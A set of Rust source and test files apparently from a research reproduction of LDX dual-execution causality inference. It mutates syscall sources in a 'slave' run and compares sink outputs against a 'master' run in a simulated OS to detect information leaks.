                            &ctx.thread,
                            &ctx.key,
                            Some(sys),
                            TraceAction::Copied,
                        );
                        v
                    }
                    // Aligned but on a tainted resource: consume the entry
                    // (done in align) yet execute privately (paper §7:
                    // "future syscalls on the resource cannot be coupled").
                    Align::Shared(_) => self.exec_decoupled(ctx, args)?,
                    Align::Decoupled => self.exec_decoupled(ctx, args)?,
                };
                if let Some(mutation) = self.source_mutation(ctx, args) {
                    let mutated = mutation.apply(&outcome);
                    if mutated != outcome {
                        self.coupling.trace_syscall(
                            Role::Slave,
                            &ctx.thread,
                            &ctx.key,
                            Some(sys),
                            TraceAction::Mutated,
                        );
                        self.coupling.flight(Role::Slave, || FlightEvent::Mutated {
                            thread: ctx.thread.clone(),
                            func: ctx.func,
                            site: ctx.site,
                            sys,
                            cnt: key_scalar(&ctx.key),
                            original: excerpt(&outcome.stringify()),
                            mutated: excerpt(&mutated.stringify()),
                        });
                    }
                    outcome = mutated;
                }
                Ok(SysOutcome::Value(outcome))
            }
        }
    }

    fn loop_barrier(
        &self,
        thread: &ThreadKey,
        key: &ProgressKey,
        _stop: &StopSignal,
    ) -> Result<(), Trap> {
        if self.thread_decoupled(thread) {
            return Ok(());
        }
        // Like the master side, the slave publishes its barrier progress
        // but does not block: its next syscall's alignment wait provides
        // the ordering (detection mode; see DESIGN.md).
        let _s = ldx_obs::span(ldx_obs::cat::BARRIER_WAIT, "loop-barrier");
        let pair = self.coupling.pair(thread);
        pair.publish(Role::Slave, key.clone());
        self.coupling
            .trace_syscall(Role::Slave, thread, key, None, TraceAction::Barrier);
        self.coupling.flight(Role::Slave, || {
            let cnt = key_scalar(key);
            let delta = master_delta(pair.inner.lock().master_ready.as_ref(), key);
            FlightEvent::Barrier {
                thread: thread.clone(),
                cnt,
                delta,
            }
        });
        Ok(())
    }

    fn thread_finished(&self, thread: &ThreadKey) {
        self.coupling.pair(thread).finish(Role::Slave);
    }
}
