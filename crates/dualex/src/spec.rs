//! Analysis specification: sources, sinks, and engine options.

use crate::mutation::Mutation;
use ldx_lang::Syscall;
use ldx_runtime::ExecConfig;

/// Which syscall outcomes are *sources* (mutated in the slave).
///
/// Matching happens in the slave's syscall wrapper; descriptor-based
/// matchers (`FileRead`, `NetRecv`, `ClientRecv`) use the engine's fd →
/// resource tracking.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum SourceMatcher {
    /// `read` results from the file at this path.
    FileRead(String),
    /// `recv` results from this peer host.
    NetRecv(String),
    /// `recv` results from clients accepted on this port.
    ClientRecv(i64),
    /// Every outcome of one syscall kind (e.g. all `random()`).
    SyscallKind(Syscall),
    /// A specific static call site, `(function name, site index)`.
    Site(String, u32),
}

/// One source: a matcher plus the mutation applied to matched outcomes.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SourceSpec {
    /// What to match.
    pub matcher: SourceMatcher,
    /// How to perturb it.
    pub mutation: Mutation,
}

impl SourceSpec {
    /// Convenience constructor: off-by-one mutation of a file's reads.
    pub fn file(path: impl Into<String>) -> Self {
        SourceSpec {
            matcher: SourceMatcher::FileRead(path.into()),
            mutation: Mutation::OffByOne,
        }
    }

    /// Convenience constructor: off-by-one mutation of a peer's data.
    pub fn net(host: impl Into<String>) -> Self {
        SourceSpec {
            matcher: SourceMatcher::NetRecv(host.into()),
            mutation: Mutation::OffByOne,
        }
    }

    /// Convenience constructor: off-by-one mutation of client requests.
    pub fn client(port: i64) -> Self {
        SourceSpec {
            matcher: SourceMatcher::ClientRecv(port),
            mutation: Mutation::OffByOne,
        }
    }

    /// Replaces the mutation (builder style).
    pub fn with_mutation(mut self, mutation: Mutation) -> Self {
        self.mutation = mutation;
        self
    }
}

/// Which syscalls are *sinks* (compared across the executions).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum SinkSpec {
    /// All output syscalls (`write` + `send`) — the paper's default.
    Outputs,
    /// Network output only (`send`), as the paper uses for programs with
    /// network connections.
    NetworkOut,
    /// Local file output only (`write` to fd >= 3, i.e. not stdio).
    FileOut,
    /// `write`s to stdio too (useful for small examples).
    AllWrites,
    /// Specific static call sites, `(function name, site index)` — how the
    /// vulnerable-program suite marks its critical execution points
    /// (return addresses, allocation sizes).
    Sites(Vec<(String, u32)>),
}

impl SinkSpec {
    /// Whether a syscall kind can ever be a sink under this spec (site
    /// matching is done by the engine, which knows the site).
    pub fn matches_kind(&self, sys: Syscall) -> bool {
        match self {
            SinkSpec::Outputs | SinkSpec::AllWrites => sys.is_output(),
            SinkSpec::NetworkOut => sys == Syscall::Send,
            SinkSpec::FileOut => sys == Syscall::Write,
            SinkSpec::Sites(_) => true,
        }
    }
}

/// The full dual-execution specification.
#[derive(Debug, Clone)]
pub struct DualSpec {
    /// Sources to mutate in the slave.
    pub sources: Vec<SourceSpec>,
    /// Sinks to compare.
    pub sinks: SinkSpec,
    /// Record a per-syscall alignment trace (paper Figures 3 and 5).
    pub trace: bool,
    /// Record the divergence flight log (every interposition decision,
    /// taint/CoW event, barrier release, and byte-level sink diff) on the
    /// report for `ldx explain`-style forensics.
    pub record: bool,
    /// Enforcement mode: the master blocks at sinks and loop barriers
    /// until the slave catches up, like the paper's original protocol
    /// (Alg. 2 lines 2–6). Detection results are identical; this recovers
    /// the paper's timing behavior (and lets output be *blocked* before it
    /// escapes, at lockstep cost).
    pub enforcement: bool,
    /// Interpreter limits for both executions.
    pub exec: ExecConfig,
}

impl Default for DualSpec {
    fn default() -> Self {
        DualSpec {
            sources: Vec::new(),
            sinks: SinkSpec::Outputs,
            trace: false,
            record: false,
            enforcement: false,
            exec: ExecConfig::default(),
        }
    }
}

impl DualSpec {
    /// A spec with one source and default (output) sinks.
    pub fn with_source(source: SourceSpec) -> Self {
        DualSpec {
            sources: vec![source],
            ..DualSpec::default()
        }
    }

    /// Adds a source (builder style).
    pub fn source(mut self, source: SourceSpec) -> Self {
        self.sources.push(source);
        self
    }

    /// Sets the sink spec (builder style).
    pub fn sinks(mut self, sinks: SinkSpec) -> Self {
        self.sinks = sinks;
        self
    }

    /// Enables trace recording (builder style).
    pub fn traced(mut self) -> Self {
        self.trace = true;
        self
    }

    /// Enables the divergence flight recorder (builder style).
    pub fn recorded(mut self) -> Self {
        self.record = true;
        self
    }

    /// Enables enforcement mode (builder style).
    pub fn enforcing(mut self) -> Self {
        self.enforcement = true;
        self
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sink_kind_matching() {
        assert!(SinkSpec::Outputs.matches_kind(Syscall::Write));
        assert!(SinkSpec::Outputs.matches_kind(Syscall::Send));
        assert!(!SinkSpec::Outputs.matches_kind(Syscall::Read));
        assert!(SinkSpec::NetworkOut.matches_kind(Syscall::Send));
        assert!(!SinkSpec::NetworkOut.matches_kind(Syscall::Write));
        assert!(SinkSpec::FileOut.matches_kind(Syscall::Write));
        assert!(SinkSpec::Sites(vec![]).matches_kind(Syscall::Close));
    }

    #[test]
    fn builders_compose() {
        let spec = DualSpec::with_source(SourceSpec::file("/secret"))
            .source(SourceSpec::net("upstream").with_mutation(Mutation::Zero))
            .sinks(SinkSpec::NetworkOut)
            .traced();
        assert_eq!(spec.sources.len(), 2);
        assert_eq!(spec.sources[1].mutation, Mutation::Zero);
        assert_eq!(spec.sinks, SinkSpec::NetworkOut);
        assert!(spec.trace);
    }

    #[test]
    fn default_spec_has_output_sinks() {
        let spec = DualSpec::default();
        assert!(spec.sources.is_empty());
        assert_eq!(spec.sinks, SinkSpec::Outputs);
        assert!(!spec.trace);
        assert!(!spec.record);
    }

    #[test]
    fn recorded_builder_sets_flag() {
        assert!(DualSpec::default().recorded().record);
    }
}
