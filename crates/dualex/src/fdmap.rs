//! Slave-side descriptor → resource tracking.
//!
//! When the slave shares aligned outcomes it never opens anything itself;
//! the descriptor numbers it holds are the *master's*. If it later
//! diverges, it must execute syscalls on those descriptors against its
//! private overlay — which requires reconstructing the resource: "before
//! the slave executes a file read, the file needs to be cloned, opened,
//! and then seeked to the right position" (paper §4.2). This map tracks,
//! for every descriptor the slave program holds, what it refers to and how
//! far it has consumed it.

use std::collections::HashMap;

/// What a descriptor refers to.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Resource {
    /// A file and the open flags (0 read / 1 write / 2 append).
    File { path: String, flags: i64 },
    /// An outbound peer connection.
    Peer { host: String },
    /// An accepted client connection: which port and the accept index.
    Client { port: i64, index: usize },
}

/// Per-descriptor state.
#[derive(Debug, Clone)]
pub(crate) struct FdInfo {
    pub resource: Resource,
    /// Characters consumed so far (read/recv position).
    pub pos: usize,
    /// The overlay's own descriptor once reconstructed.
    pub overlay_fd: Option<i64>,
}

/// The slave's descriptor table shadow.
#[derive(Debug, Default)]
pub(crate) struct SlaveFdMap {
    map: HashMap<i64, FdInfo>,
    /// Clients this slave has *observed* being accepted (shared outcomes).
    pub accept_count: usize,
    /// Clients the overlay itself has accepted (reconstruction progress).
    pub overlay_accepts: usize,
}

impl SlaveFdMap {
    /// Records a successful `open`.
    pub fn on_open(&mut self, fd: i64, path: &str, flags: i64) {
        if fd >= 0 {
            self.map.insert(
                fd,
                FdInfo {
                    resource: Resource::File {
                        path: path.to_string(),
                        flags,
                    },
                    pos: 0,
                    overlay_fd: None,
                },
            );
        }
    }

    /// Records a successful `connect`.
    pub fn on_connect(&mut self, fd: i64, host: &str) {
        if fd >= 0 {
            self.map.insert(
                fd,
                FdInfo {
                    resource: Resource::Peer {
                        host: host.to_string(),
                    },
                    pos: 0,
                    overlay_fd: None,
                },
            );
        }
    }

    /// Records a successful `accept`.
    pub fn on_accept(&mut self, fd: i64, port: i64) {
        if fd >= 0 {
            let index = self.accept_count;
            self.accept_count += 1;
            self.map.insert(
                fd,
                FdInfo {
                    resource: Resource::Client { port, index },
                    pos: 0,
                    overlay_fd: None,
                },
            );
        }
    }

    /// Records consumed characters on `fd` (read/recv results).
    pub fn on_read(&mut self, fd: i64, chars: usize) {
        if let Some(info) = self.map.get_mut(&fd) {
            info.pos += chars;
        }
    }

    /// Records a `seek`.
    pub fn on_seek(&mut self, fd: i64, pos: i64) {
        if let Some(info) = self.map.get_mut(&fd) {
            info.pos = pos.max(0) as usize;
        }
    }

    /// Records a `close`.
    pub fn on_close(&mut self, fd: i64) -> Option<FdInfo> {
        self.map.remove(&fd)
    }

    /// Looks a descriptor up.
    pub fn get(&self, fd: i64) -> Option<&FdInfo> {
        self.map.get(&fd)
    }

    /// Mutable lookup.
    pub fn get_mut(&mut self, fd: i64) -> Option<&mut FdInfo> {
        self.map.get_mut(&fd)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn tracks_open_read_seek_close() {
        let mut m = SlaveFdMap::default();
        m.on_open(3, "/f", 0);
        m.on_read(3, 5);
        assert_eq!(m.get(3).unwrap().pos, 5);
        m.on_seek(3, 1);
        assert_eq!(m.get(3).unwrap().pos, 1);
        let info = m.on_close(3).unwrap();
        assert_eq!(
            info.resource,
            Resource::File {
                path: "/f".into(),
                flags: 0
            }
        );
        assert!(m.get(3).is_none());
    }

    #[test]
    fn failed_opens_not_tracked() {
        let mut m = SlaveFdMap::default();
        m.on_open(-1, "/missing", 0);
        assert!(m.get(-1).is_none());
    }

    #[test]
    fn accept_indices_increment() {
        let mut m = SlaveFdMap::default();
        m.on_accept(3, 80);
        m.on_accept(4, 80);
        let Resource::Client { index, .. } = m.get(4).unwrap().resource else {
            panic!()
        };
        assert_eq!(index, 1);
        assert_eq!(m.accept_count, 2);
    }

    #[test]
    fn unknown_fd_updates_are_noops() {
        let mut m = SlaveFdMap::default();
        m.on_read(9, 4);
        m.on_seek(9, 2);
        assert!(m.on_close(9).is_none());
    }
}
