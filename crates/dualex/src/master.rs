//! The master execution's syscall wrapper (paper Algorithm 2).
//!
//! The master runs against the real virtual world, records every syscall
//! outcome into its thread pair's queue, and publishes its progress so the
//! slave can align. In the paper the master also blocks at sinks to
//! compare arguments in-line (enforcement mode); this reproduction runs in
//! *detection* mode — sink comparison happens when the slave reaches the
//! aligned sink, or at end-of-run reconciliation for sinks the slave never
//! reaches — which detects exactly the same causality set without the
//! master-side stall (deviation documented in DESIGN.md).

use crate::couple::{wait_until, Coupling, Entry};
use crate::recorder::{key_scalar, Decision, FlightEvent};
use crate::report::{Role, TraceAction};
use crate::resolved::ResolvedSinks;
use ldx_lang::Syscall;
use ldx_runtime::{
    from_sys_ret, to_sys_args, LockTable, ProgressKey, ProgressOrder, StopSignal, SysOutcome,
    SyscallCtx, SyscallHooks, ThreadKey, Trap, Value,
};
use ldx_vos::Vos;
use std::sync::atomic::Ordering;
use std::sync::Arc;
use std::time::Duration;

/// How long any coupling wait may block before giving up (safety valve;
/// orders of magnitude above any legitimate wait in the test suite).
pub(crate) const MAX_WAIT: Duration = Duration::from_secs(30);

/// Master-side hooks.
pub(crate) struct MasterHooks {
    pub coupling: Arc<Coupling>,
    pub vos: Arc<Vos>,
    pub locks: LockTable,
    pub sinks: ResolvedSinks,
    /// Paper-faithful lockstep: block at sinks and barriers until the
    /// slave catches up (see `DualSpec::enforcement`).
    pub enforcement: bool,
}

impl MasterHooks {
    fn enqueue(&self, ctx: &SyscallCtx, args: &[Value], outcome: Value, is_sink: bool) {
        let pair = self.coupling.pair(&ctx.thread);
        let mut inner = pair.inner.lock();
        inner.queue.push_back(Entry {
            key: ctx.key.clone(),
            func: ctx.func,
            site: ctx.site,
            sys: ctx.sys,
            args: args.to_vec(),
            outcome,
            is_sink,
            consumed: false,
        });
        inner.master_ready = Some(ctx.key.clone());
        drop(inner);
        pair.cv.notify_all();
        if is_sink {
            self.coupling
                .stats
                .master_sinks
                .fetch_add(1, Ordering::Relaxed);
        }
        self.coupling.trace_syscall(
            Role::Master,
            &ctx.thread,
            &ctx.key,
            Some(ctx.sys),
            TraceAction::Executed,
        );
        self.coupling.flight(Role::Master, || {
            let cnt = key_scalar(&ctx.key);
            FlightEvent::Syscall {
                decision: Decision::Executed,
                thread: ctx.thread.clone(),
                func: ctx.func,
                site: ctx.site,
                sys: ctx.sys,
                master_cnt: cnt,
                slave_cnt: cnt,
                is_sink,
            }
        });
    }
}

impl SyscallHooks for MasterHooks {
    fn syscall(&self, ctx: &SyscallCtx, args: &[Value]) -> Result<SysOutcome, Trap> {
        if ctx.stop.should_stop() {
            return Err(Trap::Aborted {
                reason: "master execution stopping".into(),
            });
        }
        match ctx.sys {
            Syscall::Lock => {
                let id = args[0].as_int()?;
                self.locks.lock(id, &ctx.thread, &ctx.stop);
                self.enqueue(ctx, args, Value::Int(0), false);
                Ok(SysOutcome::Value(Value::Int(0)))
            }
            Syscall::Unlock => {
                let id = args[0].as_int()?;
                self.locks.unlock(id);
                self.enqueue(ctx, args, Value::Int(0), false);
                Ok(SysOutcome::Value(Value::Int(0)))
            }
            Syscall::Spawn | Syscall::Join | Syscall::Exit | Syscall::Setjmp | Syscall::Longjmp => {
                // Control syscalls always execute independently (paper
                // §4.2); a longjmp is preceded by an artificial sink (§6)
                // so a jump difference across the executions is reported.
                let is_sink = ctx.sys == Syscall::Longjmp;
                self.enqueue(ctx, args, Value::Int(0), is_sink);
                Ok(SysOutcome::DoLocal)
            }
            sys => {
                let is_sink = self.sinks.is_sink(ctx.func, ctx.site, sys, args);
                if is_sink && self.enforcement {
                    // Alg. 2 lines 2–6: spin until the slave catches up so
                    // the comparison happens before the output escapes.
                    // Note: the master must NOT publish this key yet — its
                    // published progress asserts every entry up to the key
                    // is enqueued, and the sink entry is not (an early-
                    // arriving slave would decouple spuriously otherwise).
                    let pair = self.coupling.pair(&ctx.thread);
                    let _s = ldx_obs::span(ldx_obs::cat::BARRIER_WAIT, "sink-wait");
                    wait_until(&pair, &ctx.stop, MAX_WAIT, |inner| {
                        inner.slave_done
                            || inner.slave_ready.as_ref().is_some_and(|ready| {
                                !matches!(ready.cmp_progress(&ctx.key), ProgressOrder::Behind)
                            })
                    });
                }
                let sys_args = to_sys_args(args)?;
                let outcome = from_sys_ret(self.vos.syscall(sys, &sys_args)?);
                self.enqueue(ctx, args, outcome.clone(), is_sink);
                Ok(SysOutcome::Value(outcome))
            }
        }
    }

    fn loop_barrier(
        &self,
        thread: &ThreadKey,
        key: &ProgressKey,
        _stop: &StopSignal,
    ) -> Result<(), Trap> {
        // Detection mode (default): publishing the barrier progress is
        // sufficient for alignment — the slave's per-syscall wait provides
        // all the ordering the protocol needs — so the master runs
        // unthrottled. Enforcement mode restores the paper's lockstep
        // iteration barrier.
        let pair = self.coupling.pair(thread);
        pair.publish(Role::Master, key.clone());
        self.coupling
            .trace_syscall(Role::Master, thread, key, None, TraceAction::Barrier);
        self.coupling.flight(Role::Master, || {
            let cnt = key_scalar(key);
            let peer = pair
                .inner
                .lock()
                .slave_ready
                .as_ref()
                .map(key_scalar)
                .unwrap_or(0);
            FlightEvent::Barrier {
                thread: thread.clone(),
                cnt,
                delta: peer.saturating_sub(cnt),
            }
        });
        if self.enforcement {
            let _s = ldx_obs::span(ldx_obs::cat::BARRIER_WAIT, "loop-barrier");
            wait_until(&pair, _stop, MAX_WAIT, |inner| {
                inner.slave_done
                    || inner.slave_ready.as_ref().is_some_and(|ready| {
                        !matches!(ready.cmp_progress(key), ProgressOrder::Behind)
                    })
            });
        }
        Ok(())
    }

    fn thread_finished(&self, thread: &ThreadKey) {
        self.coupling.pair(thread).finish(Role::Master);
    }
}
