//! Protocol edge cases: indirect-call frames, recursion, setjmp/longjmp
//! divergence, resource tainting, enforcement mode, and thread asymmetry.

use ldx_dualex::{
    dual_execute, CausalityKind, DualSpec, Mutation, SinkSpec, SourceMatcher, SourceSpec,
};
use ldx_vos::{PeerBehavior, VosConfig};
use std::sync::Arc;

fn build(src: &str) -> Arc<ldx_ir::IrProgram> {
    Arc::new(
        ldx_instrument::instrument(&ldx_ir::lower(&ldx_lang::compile(src).unwrap())).into_program(),
    )
}

fn spec_file(path: &str, mutation: Mutation, sinks: SinkSpec) -> DualSpec {
    DualSpec {
        sources: vec![SourceSpec {
            matcher: SourceMatcher::FileRead(path.into()),
            mutation,
        }],
        sinks,
        trace: false,
        record: false,
        enforcement: false,
        exec: Default::default(),
    }
}

#[test]
fn indirect_call_frames_align_across_divergence() {
    // The source selects WHICH handler runs; both handlers do syscalls in
    // fresh counter frames. The final send (back in the root frame) must
    // re-align and carry the causality.
    let program = build(
        r#"
        fn ha(x) { write(2, "A" + str(x)); write(2, "A2"); return x + 1; }
        fn hb(x) { write(2, "B" + str(x)); return x + 2; }
        fn main() {
            let v = int(trim(read(open("/in", 0), 8)));
            let h = &ha;
            if (v % 2 == 0) { h = &hb; }
            let r = h(v);
            send(connect("out"), str(r));
        }
        "#,
    );
    let world = VosConfig::new()
        .file("/in", "3")
        .peer("out", PeerBehavior::Echo);
    let report = dual_execute(
        program,
        &world,
        &spec_file("/in", Mutation::OffByOne, SinkSpec::NetworkOut),
    );
    assert!(report.master.is_ok() && report.slave.is_ok());
    assert!(report.leaked());
    assert!(
        report
            .causality
            .iter()
            .any(|c| matches!(c.kind, CausalityKind::ArgDiff { .. })),
        "the root-frame send re-aligns: {:?}",
        report.causality
    );
}

#[test]
fn recursion_depth_divergence_realigns() {
    let program = build(
        r#"
        fn walk(n) {
            write(2, "step" + str(n));
            if (n <= 0) { return 0; }
            return walk(n - 1) + 1;
        }
        fn main() {
            let n = int(trim(read(open("/in", 0), 8)));
            let depth = walk(n);
            send(connect("out"), "depth=" + str(depth));
        }
        "#,
    );
    let world = VosConfig::new()
        .file("/in", "3")
        .peer("out", PeerBehavior::Echo);
    let report = dual_execute(
        program,
        &world,
        &spec_file("/in", Mutation::OffByOne, SinkSpec::NetworkOut),
    );
    assert!(report.master.is_ok() && report.slave.is_ok());
    // Master recurses 3 deep, slave 4 deep: extra in-recursion writes are
    // tolerated; the send aligns with different payloads.
    assert!(report.leaked());
    assert!(report
        .causality
        .iter()
        .any(|c| matches!(c.kind, CausalityKind::ArgDiff { .. })));
}

#[test]
fn longjmp_divergence_is_an_artificial_sink() {
    // Only the slave longjmps (its mutated input overflows the budget):
    // the artificial sink before longjmp (paper §6) must fire.
    let program = build(
        r#"
        fn consume(budget) {
            if (budget > 5) { longjmp(budget); }
            return budget;
        }
        fn main() {
            let v = int(trim(read(open("/in", 0), 8)));
            let code = setjmp();
            if (code == 0) {
                consume(v);
                write(2, "ok");
            } else {
                write(2, "jumped");
            }
            send(connect("out"), "done");
        }
        "#,
    );
    let world = VosConfig::new()
        .file("/in", "5")
        .peer("out", PeerBehavior::Echo);
    let report = dual_execute(
        program,
        &world,
        &spec_file("/in", Mutation::OffByOne, SinkSpec::NetworkOut),
    );
    assert!(report.master.is_ok() && report.slave.is_ok());
    assert!(
        report
            .causality
            .iter()
            .any(|c| c.sys == ldx_lang::Syscall::Longjmp),
        "slave-only longjmp must be reported: {:?}",
        report.causality
    );
}

#[test]
fn renamed_file_is_tainted_and_decoupled() {
    // The slave renames a file the master leaves alone (source-dependent
    // path); later accesses to it must stay decoupled without corrupting
    // the master's world.
    let program = build(
        r#"fn main() {
            let mode = trim(read(open("/mode", 0), 8));
            if (mode == "rotate") {
                rename("/data/log", "/data/log.old");
                let w = open("/data/log", 1);
                write(w, "fresh");
                close(w);
            }
            let fd = open("/data/log", 0);
            let content = read(fd, 32);
            close(fd);
            send(connect("out"), content);
        }"#,
    );
    let world = VosConfig::new()
        .file("/mode", "keep")
        .file("/data/log", "original-content")
        .peer("out", PeerBehavior::Echo);
    let spec = DualSpec {
        sources: vec![SourceSpec {
            matcher: SourceMatcher::FileRead("/mode".into()),
            mutation: Mutation::Replace("rotate".into()),
        }],
        sinks: SinkSpec::NetworkOut,
        trace: false,
        record: false,
        enforcement: false,
        exec: Default::default(),
    };
    let report = dual_execute(program, &world, &spec);
    assert!(report.master.is_ok() && report.slave.is_ok());
    // Master sends the original, slave sends "fresh": causality.
    let arg_diff = report.causality.iter().find_map(|c| match &c.kind {
        CausalityKind::ArgDiff { master, slave } => Some((master.clone(), slave.clone())),
        _ => None,
    });
    let (m, s) = arg_diff.expect("send aligns with different content");
    assert!(m.contains("original-content"));
    assert!(s.contains("fresh"));
}

#[test]
fn slave_only_threads_run_decoupled() {
    // The mutated input makes the slave spawn an extra worker; its
    // syscalls must not confuse the coupling, and its sink output is
    // reported as slave-only causality.
    let program = build(
        r#"
        fn worker(k) {
            send(connect("out"), "worker" + str(k));
            return 0;
        }
        fn main() {
            let n = int(trim(read(open("/in", 0), 8)));
            let t1 = spawn(&worker, 1);
            join(t1);
            if (n > 5) {
                let t2 = spawn(&worker, 2);
                join(t2);
            }
        }
        "#,
    );
    let world = VosConfig::new()
        .file("/in", "5")
        .peer("out", PeerBehavior::Echo);
    let report = dual_execute(
        program,
        &world,
        &spec_file("/in", Mutation::OffByOne, SinkSpec::NetworkOut),
    );
    assert!(report.master.is_ok(), "{:?}", report.master);
    assert!(report.slave.is_ok(), "{:?}", report.slave);
    assert!(
        report
            .causality
            .iter()
            .any(|c| matches!(c.kind, CausalityKind::SlaveOnlySink)),
        "the slave-only worker's send is causality: {:?}",
        report.causality
    );
}

#[test]
fn master_only_threads_reconcile() {
    let program = build(
        r#"
        fn worker(k) {
            send(connect("out"), "worker" + str(k));
            return 0;
        }
        fn main() {
            let n = int(trim(read(open("/in", 0), 8)));
            if (n > 5) {
                let t = spawn(&worker, 1);
                join(t);
            }
        }
        "#,
    );
    let world = VosConfig::new()
        .file("/in", "9")
        .peer("out", PeerBehavior::Echo);
    // Mutation drops the digit below the threshold: 9 -> 0.
    let report = dual_execute(
        program,
        &world,
        &spec_file("/in", Mutation::Zero, SinkSpec::NetworkOut),
    );
    assert!(report.master.is_ok() && report.slave.is_ok());
    assert!(
        report
            .causality
            .iter()
            .any(|c| matches!(c.kind, CausalityKind::MasterOnlySink)),
        "the master-only worker's send is causality: {:?}",
        report.causality
    );
}

#[test]
fn enforcement_mode_detects_identically() {
    let program = build(
        r#"fn main() {
            let s = trim(read(open("/secret", 0), 8));
            let i = 0;
            while (i < 4) {
                write(2, "tick" + str(i));
                i = i + 1;
            }
            let msg = "lo";
            if (s == "A") { msg = "hi"; }
            send(connect("out"), msg);
        }"#,
    );
    let world = VosConfig::new()
        .file("/secret", "A")
        .peer("out", PeerBehavior::Echo);
    let detection = spec_file("/secret", Mutation::OffByOne, SinkSpec::NetworkOut);
    let mut enforcement = detection.clone();
    enforcement.enforcement = true;

    let d = dual_execute(Arc::clone(&program), &world, &detection);
    let e = dual_execute(program, &world, &enforcement);
    assert!(d.leaked() && e.leaked());
    assert_eq!(d.tainted_sinks(), e.tainted_sinks());
    assert_eq!(d.shared, e.shared, "same sharing either way");
}

#[test]
fn enforcement_mode_quiet_on_identity() {
    let program = build(
        r#"fn main() {
            let s = read(open("/secret", 0), 8);
            for (let i = 0; i < 3; i = i + 1) { write(2, str(i)); }
            send(connect("out"), "fixed");
        }"#,
    );
    let world = VosConfig::new()
        .file("/secret", "x")
        .peer("out", PeerBehavior::Echo);
    let mut spec = spec_file("/secret", Mutation::Identity, SinkSpec::NetworkOut);
    spec.enforcement = true;
    let report = dual_execute(program, &world, &spec);
    assert!(report.master.is_ok() && report.slave.is_ok());
    assert!(!report.leaked());
    assert_eq!(report.syscall_diffs, 0);
}

#[test]
fn sources_on_entropy_syscalls() {
    // SyscallKind sources: mutate every random() outcome in the slave.
    let program = build(
        r#"fn main() {
            let r = random();
            send(connect("out"), "lucky=" + str(r % 100));
        }"#,
    );
    let world = VosConfig::new().peer("out", PeerBehavior::Echo);
    let spec = DualSpec {
        sources: vec![SourceSpec {
            matcher: SourceMatcher::SyscallKind(ldx_lang::Syscall::Random),
            mutation: Mutation::OffByOne,
        }],
        sinks: SinkSpec::NetworkOut,
        trace: false,
        record: false,
        enforcement: false,
        exec: Default::default(),
    };
    let report = dual_execute(program, &world, &spec);
    assert!(report.leaked(), "entropy flows to the sink");
}

#[test]
fn deep_nested_loops_with_mixed_divergence() {
    // Three levels of nesting where the mutation changes the middle
    // level's trip count: inner iterations shift wholesale, and the
    // post-loop sink still aligns.
    let program = build(
        r#"fn main() {
            let n = int(trim(read(open("/in", 0), 8)));
            let total = 0;
            for (let a = 0; a < 2; a = a + 1) {
                for (let b = 0; b < n; b = b + 1) {
                    for (let c = 0; c < 2; c = c + 1) {
                        write(2, str(a) + str(b) + str(c));
                        total = total + 1;
                    }
                }
            }
            send(connect("out"), "total=" + str(total));
        }"#,
    );
    let world = VosConfig::new()
        .file("/in", "2")
        .peer("out", PeerBehavior::Echo);
    let report = dual_execute(
        program,
        &world,
        &spec_file("/in", Mutation::OffByOne, SinkSpec::NetworkOut),
    );
    assert!(report.master.is_ok(), "{:?}", report.master);
    assert!(report.slave.is_ok(), "{:?}", report.slave);
    assert!(report.leaked());
    assert!(report
        .causality
        .iter()
        .any(|c| matches!(c.kind, CausalityKind::ArgDiff { .. })));
}

#[test]
fn decoupled_peer_recv_reconstructs_connection() {
    // The socket is connected and partially consumed while coupled; the
    // slave then diverges and must recv the *rest* of the conversation on
    // its own reconstructed connection.
    let program = build(
        r#"fn main() {
            let s = connect("feed.example");
            let head = recv(s, 6);
            let secret = trim(read(open("/secret", 0), 8));
            let tail = "";
            if (secret == "more") {
                tail = recv(s, 6);
            }
            send(connect("out"), head + "|" + tail);
        }"#,
    );
    let world = VosConfig::new()
        .file("/secret", "stop")
        .peer(
            "feed.example",
            PeerBehavior::Script(vec!["first!".into(), "second".into()]),
        )
        .peer("out", PeerBehavior::Echo);
    let spec = DualSpec {
        sources: vec![SourceSpec {
            matcher: SourceMatcher::FileRead("/secret".into()),
            mutation: Mutation::Replace("more".into()),
        }],
        sinks: SinkSpec::NetworkOut,
        trace: false,
        record: false,
        enforcement: false,
        exec: Default::default(),
    };
    let report = dual_execute(program, &world, &spec);
    assert!(report.master.is_ok() && report.slave.is_ok());
    let arg_diff = report.causality.iter().find_map(|c| match &c.kind {
        CausalityKind::ArgDiff { master, slave } => Some((master.clone(), slave.clone())),
        _ => None,
    });
    let (m, s) = arg_diff.expect("final send aligns: {report:?}");
    assert!(m.contains("first!|"), "master: {m}");
    // The slave's decoupled recv continues the script from where the
    // coupled conversation left off.
    assert!(s.contains("first!|second"), "slave: {s}");
}

#[test]
fn decoupled_accept_replays_backlog_position() {
    // Master accepts both clients; the slave diverges before the second
    // accept and must reconstruct it from its overlay backlog at the right
    // index.
    let program = build(
        r#"fn main() {
            let c1 = accept(80);
            let r1 = recv(c1, 16);
            close(c1);
            let secret = trim(read(open("/secret", 0), 8));
            let summary = r1;
            if (secret == "greedy") {
                let c2 = accept(80);
                let r2 = recv(c2, 16);
                close(c2);
                summary = r1 + "+" + r2;
            }
            send(connect("out"), summary);
        }"#,
    );
    let world = VosConfig::new()
        .file("/secret", "modest")
        .listen(80, vec!["alpha".into(), "beta".into()])
        .peer("out", PeerBehavior::Echo);
    let spec = DualSpec {
        sources: vec![SourceSpec {
            matcher: SourceMatcher::FileRead("/secret".into()),
            mutation: Mutation::Replace("greedy".into()),
        }],
        sinks: SinkSpec::NetworkOut,
        trace: false,
        record: false,
        enforcement: false,
        exec: Default::default(),
    };
    let report = dual_execute(program, &world, &spec);
    assert!(report.master.is_ok() && report.slave.is_ok());
    let arg_diff = report.causality.iter().find_map(|c| match &c.kind {
        CausalityKind::ArgDiff { master, slave } => Some((master.clone(), slave.clone())),
        _ => None,
    });
    let (m, s) = arg_diff.expect("final send aligns");
    assert!(m.contains("alpha"), "master: {m}");
    assert!(
        s.contains("alpha+beta"),
        "slave's decoupled accept must get the SECOND client: {s}"
    );
}

#[test]
fn decoupled_descriptor_never_collides_with_held_master_descriptor() {
    // The slave keeps a master-issued descriptor open across a divergence
    // in which it decoupled-opens a second file. The two descriptors must
    // stay distinct: reading the first must still return the FIRST file's
    // content.
    let program = build(
